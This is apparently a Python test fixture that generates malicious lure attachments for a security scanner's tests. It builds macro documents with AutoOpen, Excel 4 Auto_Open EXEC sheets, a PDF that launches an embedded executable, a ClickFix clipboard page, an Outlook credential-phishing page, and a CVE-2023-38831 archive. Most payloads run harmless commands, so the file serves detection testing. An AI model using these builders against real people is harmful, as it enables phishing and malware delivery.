"""What the attacks carry: files that are what they claim, made from a line "name|maker|argument"."""

import base64
import gzip
import io
import json
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from urllib.parse import quote

from tests.judged.files import archive, docx, pdf, xlsx
from tests.judged.locked import locked_zip
from tests.judged.lures import MAKERS, _modules, qr_png
from tests.judged.mime import File, file
from tests.judged.third import disks, programs

CMD = "..\\..\\..\\Windows\\System32\\cmd.exe"
SHELL = "..\\..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
RUN = 'Sub AutoOpen()\r\nDim s\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run "cmd /c exit", 0\r\nEnd Sub\r\nSub Workbook_Open()\r\nAutoOpen\r\nEnd Sub\r\n'
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"


def changed(package: bytes, extra: dict[str, bytes], replaced: tuple[bytes, bytes] = (b"", b"")) -> bytes:
    """A document with further members, and one text of its members changed."""
    with zipfile.ZipFile(io.BytesIO(package)) as old:
        members = {info.filename: old.read(info) for info in old.infolist()}
    if replaced[0]:
        members = {name: content.replace(*replaced) for name, content in members.items()}
    return archive([*{**members, **extra}.items()])


def _macros(lines: str, source: str = RUN) -> bytes:
    main = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    enabled = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    kinds = b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default Extension="rels"'
    found = changed(docx(lines.split("/")), {"word/vbaProject.bin": programs.vba(source)}, (main, enabled))
    found = changed(found, {}, (b'<Default Extension="rels"', kinds))
    link = b'<Relationship Id="rIdM" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
    return _linked(found, "word/_rels/document.xml.rels", link)


def _linked(package: bytes, member: str, link: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(package)) as old:
        before = old.read(member)
    return changed(package, {member: before.replace(b"</Relationships>", link + b"</Relationships>")})


def _template(link: str) -> bytes:
    rels = f'<?xml version="1.0"?><Relationships xmlns="{_RELS}"><Relationship Id="rId1" Type="{_REL}/attachedTemplate" Target="{link}" TargetMode="External"/></Relationships>'
    settings = f'<?xml version="1.0"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="{_REL}"><w:attachedTemplate r:id="rId1"/></w:settings>'
    found = changed(docx(["Loading the document ...", "読み込み中です。"]), {
        "word/settings.xml": settings.encode(), "word/_rels/settings.xml.rels": rels.encode(),
    })  # fmt: skip
    link_to = f'<Relationship Id="rIdS" Type="{_REL}/settings" Target="settings.xml"/>'.encode()
    return _linked(found, "word/_rels/document.xml.rels", link_to)


def _picture(link: str) -> bytes:
    """A document that shows a QR code."""
    space = 'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
    shown = (
        f'<w:p><w:r><w:drawing><wp:inline {space}><wp:extent cx="1800000" cy="1800000"/><wp:docPr id="1" name="code"/><a:graphic>'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="code"/><pic:cNvPicPr/></pic:nvPicPr>'
        '<pic:blipFill><a:blip r:embed="rIdP"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="1800000" cy="1800000"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p><w:sectPr>'
    ).encode()
    lines = [
        "HR: Annual compensation review",
        "スマートフォンで下のコードを読み取ってください。",
        "Scan with your phone to review and sign.",
    ]
    found = changed(docx(lines), {"word/media/image1.png": qr_png(link)}, (b"<w:sectPr>", shown))
    found = changed(
        found,
        {},
        (
            b'<Default Extension="rels"',
            b'<Default Extension="png" ContentType="image/png"/><Default Extension="rels"',
        ),
    )
    return _linked(
        found,
        "word/_rels/document.xml.rels",
        f'<Relationship Id="rIdP" Type="{_REL}/image" Target="media/image1.png"/>'.encode(),
    )


def paper(
    lines: list[str],
    link: str = "",
    *,
    script: str = "",
    code: str = "",
    held: tuple[str, bytes] | None = None,
) -> bytes:
    """A page in PDF: text, an area to click, a script that runs when it is opened, a QR code, a file inside."""
    shown = "".join(f"1 0 0 1 60 {760 - 20 * n} Tm ({line}) Tj\n" for n, line in enumerate(lines))
    content = f"BT /F1 12 Tf\n{shown}ET".encode("latin-1", "replace")
    objects = [b"", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b""]
    annotations = b""
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    if code:
        for y, row in enumerate(_modules(code)):
            for x, dark in enumerate(row):
                content += f"\n{100 + x * 5} {500 - y * 5} 5 5 re f".encode() if dark else b""
    objects.append(b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content))
    if link:
        objects.append(
            f"<< /Type /Annot /Subtype /Link /Rect [50 560 400 700] /Border [0 0 0] /A << /S /URI /URI ({link}) >> >>".encode()
        )
        annotations = b" /Annots [%d 0 R]" % len(objects)
    extra = b""
    if script:
        objects.append(f"<< /S /JavaScript /JS ({script}) >>".encode())
        extra += b" /OpenAction %d 0 R" % len(objects)
    if held:
        objects.append(
            b"<< /Type /EmbeddedFile /Length %d >>\nstream\n%s\nendstream" % (len(held[1]), held[1])
        )
        objects.append(f"<< /Type /Filespec /F ({held[0]}) /EF << /F {len(objects)} 0 R >> >>".encode())
        extra += f" /Names << /EmbeddedFiles << /Names [({held[0]}) {len(objects)} 0 R] >> >>".encode()
    objects[0] = b"<< /Type /Catalog /Pages 2 0 R%s >>" % extra
    objects[2] = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Resources << /Font << /F1 4 0 R >> >>%s >>"
        % annotations
    )
    out, places = b"%PDF-1.7\n", []
    for number, inner in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, inner)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    return (
        out
        + b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
        % (size, table, size, len(out))
    )


def tarred(name: str, content: bytes) -> bytes:
    """A tar of one file and one date."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as packed:
        entry = tarfile.TarInfo(name)
        entry.size, entry.mtime = len(content), 1_794_900_000
        packed.addfile(entry, io.BytesIO(content))
    return out.getvalue()


def _sheet_macros(words: str) -> bytes:
    """Macros of Excel 4 on a sheet of their own."""
    sheet = (
        '<?xml version="1.0"?><xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
        '<sheetData><row r="1"><c r="A1"><f>EXEC("cmd /c exit")</f><v>0</v></c></row><row r="2"><c r="A2"><f>HALT()</f><v>0</v></c></row></sheetData></xm:macrosheet>'
    )
    found = changed(xlsx(("Sheet1", [[words]])), {"xl/macrosheets/sheet1.xml": sheet.encode()})
    found = changed(
        found,
        {},
        (
            b"<sheets>",
            b'<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames><sheets><sheet name="Macro1" sheetId="9" state="hidden" r:id="rIdX"/>',
        ),
    )
    return _linked(
        found,
        "xl/_rels/workbook.xml.rels",
        b'<Relationship Id="rIdX" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/>',
    )


def clickfix(command: str) -> bytes:
    """A page that has a command pasted into the Run dialogue."""
    return (
        "<!DOCTYPE html><html lang=ja><head><meta charset=utf-8><title>Verify you are human</title></head><body style='font-family:sans-serif'>"
        "<h3>ロボットではないことを確認してください</h3><div id=c><input type=checkbox onclick='go()'> I'm not a robot</div><ol id=s hidden>"
        "<li>Press <b>Win + R</b></li><li>Press <b>Ctrl + V</b></li><li>Press <b>Enter</b></li></ol><script>function go(){"
        f"navigator.clipboard.writeText({json.dumps(command)});document.getElementById('s').hidden=false}}</script></body></html>"
    ).encode()


def portal(link: str) -> bytes:
    """A page that asks for the password of the mailbox and posts it by script."""
    coded = base64.b64encode(link.encode()).decode()
    return (
        "<!DOCTYPE html><html><head><meta charset=utf-8><title>Outlook</title></head><body><div class=box><img alt=Microsoft src='data:image/gif;base64,R0lGODlhAQABAAAAACw='>"
        "<p>y.sato@corp.example</p><h1>パスワードの入力</h1><input id=pw type=password placeholder='Password'><button onclick='s()'>サインイン</button></div>"
        f"<script>var u=atob('{coded}');function s(){{fetch(u,{{method:'POST',mode:'no-cors',body:JSON.stringify({{e:'y.sato@corp.example',p:document.getElementById('pw').value}})}})"
        ".then(()=>location='https://www.office.com/')}</script></body></html>"
    ).encode()


def packed_page(link: str) -> bytes:
    """A page all of whose content is written by script out of percent codes."""
    inner = f'<form action="{link}" method="post"><p>y.sato@corp.example</p><input type="password" name="pwd"><input type="submit" value="Sign in"></form>'
    return f"<html><head></head><body><script>document.write(unescape('{quote(inner, safe='')}'));</script></body></html>".encode()


def _event(line: str) -> bytes:
    """An invitation of "title>description>organiser"."""
    title, words, host = line.split(">")
    return (
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\n"
        f"UID:040000008200E00074C5B7101A82E008@{host.partition('@')[2]}\r\nDTSTAMP:20261118T000000Z\r\nDTSTART:20261126T070000Z\r\nDTEND:20261126T080000Z\r\n"
        f"SUMMARY:{title}\r\nDESCRIPTION:{words}\r\nORGANIZER:mailto:{host}\r\nATTENDEE:mailto:y.sato@corp.example\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    ).encode()


def _accepted(line: str) -> bytes:
    """An answer of "title>who" to an invitation of ours."""
    title, who = line.split(">")
    return (
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REPLY\r\nBEGIN:VEVENT\r\nUID:1201@corp.example\r\nDTSTAMP:20261118T000000Z\r\nDTSTART:20261201T010000Z\r\n"
        f"SUMMARY:{title}\r\nORGANIZER:mailto:y.sato@corp.example\r\nATTENDEE;PARTSTAT=ACCEPTED:mailto:{who}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    ).encode()


def _photo() -> bytes:
    """A grey picture of 32 points a side (PNG)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    rows = b"".join(b"\x00" + bytes((x * y) % 256 for x in range(32)) for y in range(32))
    head = (32).to_bytes(4, "big") * 2 + b"\x08\x00\x00\x00\x00"
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(rows, 0))
        + chunk(b"IEND", b"")
    )


def rtf_object(name: str) -> bytes:
    """A rich text with a packaged program."""
    inner = programs.package(name, programs.pe())
    ole = (
        b"\x01\x05\x00\x00\x02\x00\x00\x00\x08\x00\x00\x00Package\x00"
        + bytes(8)
        + len(inner).to_bytes(4, "little")
        + inner
    )
    return (
        r"{\rtf1\ansi\deff0{\fonttbl{\f0 Arial;}}\f0 Double click the icon to read.\par{\object\objemb\objw500\objh500{\*\objclass Package}{\*\objdata "
        + ole.hex()
        + r"}}}"
    ).encode()


def _zipped(line: str) -> bytes:
    """A ZIP of "name>maker>argument"."""
    name, maker, argument = line.split(">", 2)
    return archive([(name, BAIT[maker](argument))])


def _locked(line: str) -> bytes:
    """An encrypted ZIP of "passphrase>name>maker>argument"."""
    word, name, maker, argument = line.split(">", 3)
    return locked_zip([(name, BAIT[maker](argument))], word)


def _winrar(name: str) -> bytes:
    """The archive of CVE-2023-38831: a document, and a folder of its name with a script."""
    return archive([(f"{name} ", pdf([name])), (f"{name} /{name} .cmd", b"@echo off\r\nstart calc\r\n")])


def _mht(link: str) -> bytes:
    return f'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="m"\r\n\r\n--m\r\nContent-Type: text/html; charset=utf-8\r\nContent-Location: file:///C:/a.htm\r\n\r\n<html><body><form method=post action="{link}"><input type=password name=p><input type=submit value="Sign in"></form></body></html>\r\n--m--\r\n'.encode()


PE = programs.pe()
BAIT: dict[str, Callable[[str], bytes]] = {
    **MAKERS,
    "meeting": _event,
    "reply": _accepted,
    "png": lambda _: _photo(),
    "pe": lambda _: PE,
    "zip": _zipped,
    "locked": _locked,
    "docm": _macros,
    "doc-macro": lambda _: programs.vba(RUN),
    "template": _template,
    "docx-qr": _picture,
    "xlsm4": _sheet_macros,
    "paper": lambda line: paper(line.split("/")),
    "paper-link": lambda line: paper(line.split(">")[0].split("/"), line.split(">", 1)[1]),
    "paper-qr": lambda line: paper(line.split(">")[0].split("/"), code=line.split(">", 1)[1]),
    "paper-script": lambda line: paper(line.split("/"), script="this.exportDataObject\\({cName:'form.exe',nLaunch:2}\\);", held=("form.exe", PE)),
    "clickfix": clickfix,
    "portal": portal,
    "packed": packed_page,
    "lnk": lambda arguments: programs.shortcut(SHELL, arguments),
    "iso": lambda line: disks.iso({line: PE}),
    "iso-lnk": lambda line: disks.iso({line: programs.shortcut(CMD, "/c start lib.dll"), "lib.dll": programs.pe(library=True)}),
    "img": lambda line: disks.fat({line: PE}),
    "vhd": lambda line: disks.vhd({line: PE}),
    "7z": lambda line: disks.seven(line, PE),
    "rar": lambda line: disks.rar5(line, PE),
    "cab": lambda line: disks.cabinet(line, PE),
    "lzh": lambda line: disks.lzh(line, PE),
    "ace": lambda line: disks.ace(line, PE),
    "arj": lambda line: disks.arj(line, PE),
    "gz": lambda _: gzip.compress(PE, mtime=0),
    "tar": lambda line: tarred(line, PE),
    "tgz-js": lambda line: gzip.compress(tarred(line, b"var s=new ActiveXObject('WScript.Shell');s.Run('calc');"), mtime=0),
    "chm": lambda _: disks.chm({"index.htm": b"<html><object id=x classid='clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11'><param name=Command value=ShortCut><param name=Item1 value=',cmd.exe,/c exit'></object><script>x.Click();</script></html>"}),
    "hta": lambda _: b"<html><head><hta:application windowstate=minimize><script language=vbscript>CreateObject(\"WScript.Shell\").Run \"cmd /c exit\",0:self.close</script></head></html>",
    "vbs": lambda _: b"Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"cmd /c exit\", 0, False\r\n",
    "wsf": lambda _: b"<job id=\"a\"><script language=\"JScript\">new ActiveXObject('WScript.Shell').Run('cmd /c exit');</script></job>",
    "bat": lambda _: b"@echo off\r\nstart /min powershell -w hidden -c exit\r\nexit\r\n",
    "unc": lambda host: f"[InternetShortcut]\r\nURL=file://{host}/share/Invoice.pdf.exe\r\nIconIndex=0\r\n".encode(),
    "library": lambda host: f'<?xml version="1.0" encoding="UTF-8"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\{host}\\shared</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>'.encode(),
    "rdp": lambda host: f"full address:s:{host}\r\nredirectclipboard:i:1\r\ndrivestoredirect:s:*\r\nremoteapplicationmode:i:1\r\nremoteapplicationname:s:Secure Storage Connection Stability Test\r\n".encode(),
    "iqy": lambda link: f"WEB\r\n1\r\n{link}\r\n".encode(),
    "slk": lambda _: b'ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1;KOut Flank;F\r\nC;X1;Y101;K0;EEXEC("cmd /c exit")\r\nC;X1;Y102;K0;EHALT()\r\nE\r\n',
    "dde": lambda _: "品番,数量,単価\r\nA-1,3,1200\r\n\"=cmd|'/c calc'!A1\",,\r\n".encode("cp932"),
    "jar": lambda _: archive([("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\nMain-Class: Main\r\n\r\n"), ("Main.class", bytes.fromhex("cafebabe00000034"))]),
    "msi": lambda _: programs.compound({"Property": b"ProductName" * 20, "Binary.a": PE}, bytes.fromhex("84100c0000000000c000000000000046")),
    "ppsx": lambda words: archive([("[Content_Types].xml", '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'), ("ppt/slides/_rels/slide1.xml.rels", f'<Relationships xmlns="{_RELS}"><Relationship Id="rId2" Type="{_REL}/hyperlink" Target="{words}" TargetMode="External"/></Relationships>'), ("ppt/slides/slide1.xml", "<p:sld xmlns:p='http://schemas.openxmlformats.org/presentationml/2006/main'/>")]),
    "rtf": rtf_object,
    "winrar": _winrar,
    "mht": _mht,
    "xll": lambda _: programs.pe(b"xlAutoOpen\x00", library=True),
    "apk": lambda _: archive([("AndroidManifest.xml", b"\x03\x00\x08\x00" + bytes(40)), ("classes.dex", b"dex\n035\x00" + bytes(100))]),
}  # fmt: skip


def baited(line: str) -> File:
    """A file from "name|maker|argument"."""
    name, maker, argument = line.split("|", 2)
    return file(name, BAIT[maker](argument))
